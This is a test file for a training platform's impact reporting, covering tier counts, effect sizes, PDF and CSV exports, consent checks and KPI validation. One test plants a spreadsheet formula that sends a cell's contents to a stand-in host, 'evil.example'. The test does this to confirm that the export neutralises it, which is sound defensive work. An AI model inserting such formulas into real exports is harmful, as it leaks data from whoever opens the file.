import { parse } from "csv-parse/sync";
import { and, eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import type { ImpactView, SuccessCasesView } from "../../../common/schemas/impact.ts";
import { caller, useTestApp } from "../../../test-support/app.ts";
import { seededDemoImpact } from "../../../test-support/demo.ts";
import { pdfFonts, pdfStructure } from "../../../test-support/pdf-inspect.ts";
import { pdfPages } from "../../../test-support/pdf-text.ts";
import {
  auditEvents,
  impactKpis,
  learnerPreferences,
  measures,
  persons,
  surveyResponses,
  trajectories,
} from "../../db/schema/index.ts";
import { DEMO_PASSWORD } from "../../db/seed/demo.ts";

describe("impact on the demo organisation", () => {
  const t = useTestApp();
  const call = caller(t);
  const callInDutch = caller(t, "nl");
  let coordinator: string;
  let manager: string;
  let trajectoryId: string;
  let finishedId: string;

  beforeAll(async () => {
    ({ coordinator, trajectoryId, finishedId } = await seededDemoImpact(t));
    manager = await t.signIn("henk.brouwer@demo.beklijf.nl", DEMO_PASSWORD);
  });

  const impactOf = async (query = `?cohortId=${finishedId}`) => {
    const response = await call("GET", `/api/trajectories/${trajectoryId}/impact${query}`, coordinator);
    expect(response.statusCode).toBe(200);
    return response.json<ImpactView>();
  };

  it("counts the finished cohort's learners per LTEM tier, with evidence on every tier", async () => {
    const impact = await impactOf();
    expect(impact.participants).toBe(14);
    expect(impact.tiers.map((tier) => tier.tier)).toEqual([1, 2, 3, 4, 5, 6, 7, 8]);
    expect(impact.tiers.map((tier) => tier.name)).toEqual([
      "Attendance",
      "Activity",
      "Learner perceptions",
      "Knowledge",
      "Decision making",
      "Task competence",
      "Transfer",
      "Effects of transfer",
    ]);
    // 13 of 14 came; 12 did their tasks; 13 answered a survey; 6 scored 70% on the assessed role play
    // seven weeks on; 5 have two applications their manager saw.
    const learners = Object.fromEntries(impact.tiers.map((tier) => [tier.tier, tier.learners]));
    expect(learners).toMatchObject({ 1: 13, 2: 12, 3: 13, 6: 6, 7: 5, 8: 0 });
    expect(learners[4]).toBeGreaterThan(0);
    expect(learners[5]).toBeGreaterThan(0);
    for (const tier of impact.tiers) expect(tier.evidence.length, `tier ${tier.tier}`).toBeGreaterThan(0);
    // Completion is not transfer.
    expect(learners[7]).toBeLessThan(learners[1]!);
    const insight = impact.tiers[4]!.evidence.find((e) => e.instrument === "test")!;
    expect(insight).toMatchObject({ timing: "before", baseline: true });
    expect(impact.tiers[7]!.evidence[0]!.detail).toContain("Klachten over communicatie: 14 → 9");
  });

  it("computes the pre/post effect size from the insight test and the assessed competence proof", async () => {
    const { effectSize } = await impactOf();
    expect(effectSize!.result.design).toBe("pre-post");
    expect(effectSize!.result.n).toBe(13);
    expect(effectSize!.result.headline).toBe("d_pre");
    const headline = effectSize!.result.estimates.find((e) => e.metric === "d_pre")!;
    expect(headline.value).toBeGreaterThan(0);
    expect(headline.ciLow).toBeLessThan(headline.value);
    expect(headline.corrected).toBe(true);
    expect(effectSize!.explanation.join(" ")).toMatch(/d_pre = .*corrected for small groups/);
    expect(effectSize!.meanPost!).toBeGreaterThan(effectSize!.meanPre!);
    expect(effectSize!.explanation.join(" ")).toContain("no comparison group");
    // Beside the hinge point, always the caveat that a pre-post d is not a controlled d.
    const hinge = effectSize!.comparisons.find((c) => c.figure.includes("0.40"))!;
    expect(hinge.caveat).toMatch(/Context only/);
  });

  it("says 'too few to say' for a cohort without enough paired measures", async () => {
    const all = await impactOf("");
    const service = all.cohorts.find((c) => c.name === "Serviceteam, klantgesprekken")!;
    const { effectSize } = await impactOf(`?cohortId=${service.id}`);
    expect(effectSize!.result.estimates).toEqual([]);
    expect(effectSize!.result.notes[0]).toMatch(/Too few to say/);
  });

  it("keeps the figures for coordinators and designers, and names for the coordinator only", async () => {
    expect((await call("GET", `/api/trajectories/${trajectoryId}/impact`, manager)).statusCode).toBe(403);
    const cases = await call("GET", `/api/trajectories/${trajectoryId}/success-cases`, manager);
    expect(cases.statusCode).toBe(403);
    const csv = await call("GET", `/api/trajectories/${trajectoryId}/impact/learners.csv`, manager);
    expect(csv.statusCode).toBe(403);
  });

  it("writes a PDF report with a one-page summary and the expected headings, in Dutch or English", async () => {
    const response = await call(
      "GET",
      `/api/trajectories/${trajectoryId}/impact/report.pdf?cohortId=${finishedId}&lang=nl`,
      coordinator,
    );
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toBe("application/pdf");
    const pages = await pdfPages(response.rawPayload);
    expect(pages[0]).toContain("Impactrapport");
    expect(pages[0]).toContain("Samenvatting");
    expect(pages[0]).toContain("Deelnemers per LTEM-niveau");
    const rest = pages.slice(1).join(" ");
    for (const heading of [
      "Bewijs per LTEM-niveau",
      "Effectgrootte",
      "Vragenlijst voor deelnemers",
      "Organisatiecijfers",
    ]) {
      expect(rest).toContain(heading);
    }
    const summary = await call(
      "GET",
      `/api/trajectories/${trajectoryId}/impact/report.pdf?summary=true&lang=en`,
      coordinator,
    );
    const summaryPages = await pdfPages(summary.rawPayload);
    expect(summaryPages).toHaveLength(1);
    expect(summaryPages[0]).toContain("Impact report");
  });

  it("embeds its font and tags the report for screen readers, so '14 → 9' reads as written", async () => {
    const response = await call(
      "GET",
      `/api/trajectories/${trajectoryId}/impact/report.pdf?cohortId=${finishedId}&lang=nl`,
      coordinator,
    );
    const fonts = pdfFonts(response.rawPayload);
    expect(fonts.standard).toEqual([]);
    expect(fonts.allEmbedded).toBe(true);
    expect((await pdfPages(response.rawPayload)).join(" ")).toContain("14 → 9");
    const structure = await pdfStructure(response.rawPayload);
    expect(structure).toMatchObject({ marked: true, language: "nl" });
    expect(structure.title).toContain("Impactrapport");
    expect(structure.roles).toEqual(expect.arrayContaining(["H1", "H2", "P"]));
  });

  it("exports the tiers as CSV without names, and the learners as CSV for the coordinator (logged)", async () => {
    const tiers = await call(
      "GET",
      `/api/trajectories/${trajectoryId}/impact/tiers.csv?cohortId=${finishedId}&lang=en`,
      coordinator,
    );
    expect(tiers.body.startsWith("\uFEFFtier;name;learners")).toBe(true);
    expect(tiers.body).toContain("7;Transfer;5;");
    const people = await call(
      "GET",
      `/api/trajectories/${trajectoryId}/impact/learners.csv?cohortId=${finishedId}&lang=nl`,
      coordinator,
    );
    expect(people.body.split("\r\n").filter(Boolean)).toHaveLength(15);
    expect(people.body).toContain("naam;groep;aanwezig");
    const logged = await t.database.db
      .select()
      .from(auditEvents)
      .where(eq(auditEvents.action, "impact.learners-exported"));
    expect(logged).toHaveLength(1);
  });

  it("neutralises a learner's name that a spreadsheet would run as a formula", async () => {
    const download = async () =>
      (
        await call(
          "GET",
          `/api/trajectories/${trajectoryId}/impact/learners.csv?cohortId=${finishedId}&lang=en`,
          coordinator,
        )
      ).body;
    const realName = (parse(await download(), { delimiter: ";", bom: true }) as string[][])[1]![0]!;
    const planted = '=HYPERLINK("https://evil.example/?"&A1;"Open")';
    const rename = (from: string, to: string) =>
      t.database.db.update(persons).set({ name: to }).where(eq(persons.name, from));
    await rename(realName, planted);
    try {
      const rows = parse(await download(), { delimiter: ";", bom: true }) as string[][];
      expect(rows.map((row) => row[0])).toContain(`'${planted}`);
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    } finally {
      await rename(planted, realName);
    }
  });

  it("lists success cases only among learners who agreed, and records an interview only with consent", async () => {
    const response = await call(
      "GET",
      `/api/trajectories/${trajectoryId}/success-cases?cohortId=${finishedId}`,
      coordinator,
    );
    const cases = response.json<SuccessCasesView>();
    expect(cases.withoutConsent).toBe(6);
    expect(cases.most.length).toBe(3);
    expect(cases.most[0]!.confirmedApplications).toBe(2);
    expect(cases.most[0]!.interview?.notes.helped).toContain("als-dan-plan");
    const mostIds = new Set(cases.most.map((c) => c.personId));
    expect(cases.least.every((c) => !mostIds.has(c.personId))).toBe(true);
    const least = cases.least[0]!;
    const notes = {
      used: "Nog niet",
      result: "",
      helped: "",
      hindered: "Te druk op maandag",
      suggestion: "",
    };
    const saved = await call(
      "POST",
      `/api/trajectories/${trajectoryId}/success-cases/interviews`,
      coordinator,
      {
        personId: least.personId,
        kind: "non-success",
        notes,
      },
    );
    expect(saved.statusCode).toBe(201);
    // Someone in the cohort who did not agree: refused, in Dutch when asked.
    const participants = (await call("GET", `/api/cohorts/${finishedId}/attendance`, coordinator)).json<{
      participants: { personId: string }[];
    }>().participants;
    const agreed = await t.database.db
      .select({ personId: learnerPreferences.personId })
      .from(learnerPreferences)
      .where(eq(learnerPreferences.interviewConsent, true));
    const refusedFor = participants.find((p) => !agreed.some((a) => a.personId === p.personId))!;
    const refused = await callInDutch(
      "POST",
      `/api/trajectories/${trajectoryId}/success-cases/interviews`,
      coordinator,
      { personId: refusedFor.personId, kind: "success", notes },
    );
    expect(refused.statusCode).toBe(409);
    expect(refused.json<{ detail: string }>().detail).toMatch(/toestemming/);
  });

  it("records KPIs with the causality caveat; bad input is refused in Dutch and stores nothing", async () => {
    const url = `/api/trajectories/${trajectoryId}/kpis`;
    const before = await t.database.db.select().from(impactKpis);
    const bad = await callInDutch("POST", url, coordinator, {
      name: "",
      unit: "uur",
      better: "less",
      beforeValue: "veel",
    });
    expect(bad.statusCode).toBe(400);
    expect(bad.json<{ errors: { field: string; message: string }[] }>().errors.map((e) => e.field)).toEqual(
      expect.arrayContaining(["name", "better", "beforeValue", "beforePeriod"]),
    );
    expect(await t.database.db.select().from(impactKpis)).toHaveLength(before.length);
    const created = await call("POST", url, coordinator, {
      name: "Herstelwerk",
      unit: "uur per maand",
      better: "lower",
      beforeValue: 40,
      beforePeriod: "Q1",
    });
    expect(created.statusCode).toBe(201);
    const id = created.json<{ id: string }>().id;
    const updated = await call("PUT", `${url}/${id}`, coordinator, {
      name: "Herstelwerk",
      unit: "uur per maand",
      better: "lower",
      beforeValue: 40,
      beforePeriod: "Q1",
      afterValue: 31,
      afterPeriod: "Q3",
    });
    expect(updated.json()).toMatchObject({ change: -9, improved: true });
    const list = (await call("GET", url, coordinator, undefined, "en")).json<{ caveat: string }>();
    expect(list.caveat).toMatch(/comparison/);
    expect((await call("DELETE", `${url}/${id}`, coordinator)).statusCode).toBe(204);
  });

  it("refuses KPI values beyond ±10^12 in Dutch, naming the field, before writing anything (POST and PUT)", async () => {
    const url = `/api/trajectories/${trajectoryId}/kpis`;
    const figure = { name: "Omzet", unit: "euro", better: "higher", beforeValue: 100, beforePeriod: "2024" };
    const before = await t.database.db.select().from(impactKpis);
    const audits = await t.database.db.select().from(auditEvents);
    const huge = await callInDutch("POST", url, coordinator, {
      ...figure,
      beforeValue: 1e308,
      afterValue: -1e308,
      afterPeriod: "2025",
    });
    expect(huge.statusCode).toBe(400);
    const errors = huge.json<{ errors: { field: string; message: string }[] }>().errors;
    expect(errors.map((e) => e.field).sort()).toEqual(["afterValue", "beforeValue"]);
    expect(errors.find((e) => e.field === "beforeValue")!.message).toMatch(/^Voor /);
    expect(errors.find((e) => e.field === "afterValue")!.message).toMatch(/^Na /);
    expect(await t.database.db.select().from(impactKpis)).toHaveLength(before.length);
    expect(await t.database.db.select().from(auditEvents)).toHaveLength(audits.length);

    const created = await call("POST", url, coordinator, figure);
    expect(created.statusCode).toBe(201);
    const id = created.json<{ id: string }>().id;
    const put = await callInDutch("PUT", `${url}/${id}`, coordinator, { ...figure, afterValue: -1e308 });
    expect(put.statusCode).toBe(400);
    const [row] = await t.database.db.select().from(impactKpis).where(eq(impactKpis.id, id));
    expect(row).toMatchObject({ beforeValue: 100, afterValue: null });
    const list = await call("GET", url, coordinator);
    expect(list.statusCode).toBe(200);
    expect((await call("DELETE", `${url}/${id}`, coordinator)).statusCode).toBe(204);
  });

  it("lists and removes a figure stored before values were bounded, whose change is not a number", async () => {
    const url = `/api/trajectories/${trajectoryId}/kpis`;
    const [trajectory] = await t.database.db
      .select({ organisationId: trajectories.organisationId })
      .from(trajectories)
      .where(eq(trajectories.id, trajectoryId));
    const [legacy] = await t.database.db
      .insert(impactKpis)
      .values({
        organisationId: trajectory!.organisationId,
        trajectoryId,
        name: "Oud cijfer",
        unit: "euro",
        better: "higher",
        beforeValue: 1e308,
        beforePeriod: "2024",
        afterValue: -1e308,
        afterPeriod: "2025",
        createdAt: new Date(),
      })
      .returning();
    const list = await call("GET", url, coordinator);
    expect(list.statusCode).toBe(200);
    const shown = list.json<{ kpis: { id: string; change: number | null; improved: boolean | null }[] }>();
    expect(shown.kpis.find((k) => k.id === legacy!.id)).toMatchObject({ change: null, improved: false });
    expect((await impactOf()).tiers).toHaveLength(8);
    expect((await call("DELETE", `${url}/${legacy!.id}`, coordinator)).statusCode).toBe(204);
  });

  it("locks the survey's answer standards once answers exist", async () => {
    const response = await callInDutch(
      "PUT",
      `/api/trajectories/${trajectoryId}/survey-standards`,
      coordinator,
      {
        standards: [{ question: "ability", acceptableFrom: 3, targetPercent: 80 }],
      },
    );
    expect(response.statusCode).toBe(409);
    expect(response.json<{ code: string }>().code).toBe("STANDARDS_LOCKED");
    const results = (
      await call(
        "GET",
        `/api/trajectories/${trajectoryId}/survey-results?cohortId=${finishedId}`,
        coordinator,
      )
    ).json<{
      locked: boolean;
      moments: { moment: string; respondents: number }[];
    }>();
    expect(results.locked).toBe(true);
    expect(results.moments.map((m) => m.respondents)).toEqual([13, 12]);
  });

  it("lets a learner answer the survey after the practice day once, with every question required", async () => {
    const learner = await t.signIn("learner@demo.beklijf.nl", DEMO_PASSWORD);
    const today = (await call("GET", "/api/me/today", learner)).json<{
      items: { kind: string; cohortId: string; activityId?: string; type?: string }[];
    }>();
    const survey = today.items.find((i) => i.type === "learner-survey")!;
    const url = `/api/me/activities/${survey.cohortId}/${survey.activityId}`;
    const detail = (await call("GET", url, learner)).json<{
      survey: { questions: string[] };
      canMarkDone: boolean;
    }>();
    expect(detail.survey.questions).toEqual(["ability", "realism", "firstUse", "support"]);
    expect(detail.canMarkDone).toBe(false);
    const partial = await callInDutch("POST", `${url}/survey`, learner, { answers: { ability: 2 } });
    expect(partial.statusCode).toBe(400);
    expect(partial.json<{ errors: { message: string }[] }>().errors[0]!.message).toMatch(/beantwoord/);
    const answers = { ability: 2, realism: 3, firstUse: 3, support: 1 };
    expect((await call("POST", `${url}/survey`, learner, { answers })).statusCode).toBe(201);
    expect((await call("POST", `${url}/survey`, learner, { answers })).statusCode).toBe(409);
    const stored = await t.database.db
      .select()
      .from(surveyResponses)
      .where(
        and(
          eq(surveyResponses.cohortId, survey.cohortId),
          eq(surveyResponses.activityId, survey.activityId!),
        ),
      );
    expect(stored).toHaveLength(1);
    const again = (await call("GET", url, learner)).json<{ status: string; survey: { answers: object } }>();
    expect(again).toMatchObject({ status: "done", survey: { answers } });
  });

  it("stores an assessor's competence-proof score as the learner's measure", async () => {
    const impact = await impactOf();
    const proofLine = impact.tiers[5]!.evidence[0]!;
    expect(proofLine.instrument).toBe("test");
    const participants = (await call("GET", `/api/cohorts/${finishedId}/attendance`, coordinator)).json<{
      participants: { personId: string }[];
    }>().participants;
    const trajectory = (await call("GET", `/api/trajectories/${trajectoryId}`, coordinator)).json<{
      document: { activities: { id: string; type: string }[]; competences: { id: string }[] };
    }>();
    const proof = trajectory.document.activities.find((a) => a.type === "competence-proof")!;
    const [first, second] = trajectory.document.competences;
    const url = `/api/cohorts/${finishedId}/assessments`;
    const tooHigh = await call("POST", url, coordinator, {
      personId: participants[0]!.personId,
      activityId: proof.id,
      scores: [{ competenceId: first!.id, score: 11, max: 10 }],
    });
    expect(tooHigh.statusCode).toBe(400);
    // Everyone scored 10 of 10: all but the one who never took it now pass.
    for (const p of participants) {
      const response = await call("POST", url, coordinator, {
        personId: p.personId,
        activityId: proof.id,
        scores: [
          { competenceId: first!.id, score: 10, max: 10 },
          { competenceId: second!.id, score: 10, max: 10 },
        ],
      });
      expect(response.statusCode).toBe(201);
    }
    const rows = await t.database.db.select().from(measures).where(eq(measures.activityId, proof.id));
    expect(rows.filter((r) => r.cohortId === finishedId).every((r) => r.assessedBy !== null)).toBe(true);
    expect((await impactOf()).tiers[5]!.learners).toBe(14);
  });
});
